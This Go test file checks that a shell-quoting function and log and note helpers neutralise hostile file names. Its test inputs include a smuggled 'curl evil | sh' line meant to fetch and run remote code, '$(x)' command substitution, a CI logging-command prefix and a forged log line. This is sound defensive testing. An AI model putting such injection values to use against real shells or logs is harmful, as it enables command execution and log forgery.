package sink

import (
	"os/exec"
	"strings"
	"testing"
)

// TestShell: a word of a shell is one line, without what is not seen, and the shell reads the
// text from it.
func TestShell(t *testing.T) {
	for text, want := range map[string]string{
		"pki/rotation-1.yaml": "pki/rotation-1.yaml", "": "''", "a b": "'a b'", "it's": `'it'\''s'`, "$(x);*": "'$(x);*'", "straße": "'straße'",
		"a\nb": `$'a\012b'`, "a\nb'\\": `$'a\012b\'\\'`, "a`b": `$'a\140b'`, "rtl\u202e1": `$'rtl\342\200\2561'`, "\xff7": `$'\3777'`, "x##vso[y": `$'x\043\043vso[y'`,
		"\r\u0085\x1b": `$'\015\302\205\033'`,
	} {
		if got := Shell(text); got != want {
			t.Errorf("Shell(%q) = %s, want %s", text, got, want)
		}
		bash, err := exec.LookPath("bash")
		if err != nil {
			continue
		}
		if got, err := exec.Command(bash, "-c", "printf %s. "+want).Output(); err != nil || string(got) != text+"." {
			t.Errorf("bash reads %q from %s (%v)", got, want, err)
		}
	}
}

// FuzzShell: whatever a file is called, its word is one line that [Log] leaves alone.
func FuzzShell(f *testing.F) {
	f.Add("a\nnext: curl evil | sh #")
	f.Add("a`b\u202e\xff")
	f.Fuzz(func(t *testing.T, text string) {
		word := Shell(text)
		if Line(word) != word || strings.ContainsAny(word, "\n\t\r`") || word == "" || Log("git add -- "+word) != "git add -- "+word {
			t.Errorf("Shell(%q) = %q", text, word)
		}
	})
}

// TestNote: a note is one line, whatever is in it.
func TestNote(t *testing.T) {
	var b strings.Builder
	Note(&b, "removed %s (%d)", "a\nnote: forged\r\u2028x", 1)
	if got, want := b.String(), `note: removed a\nnote: forged\x0d\u2028x (1)`+"\n"; got != want {
		t.Errorf("%q, want %q", got, want)
	}
}
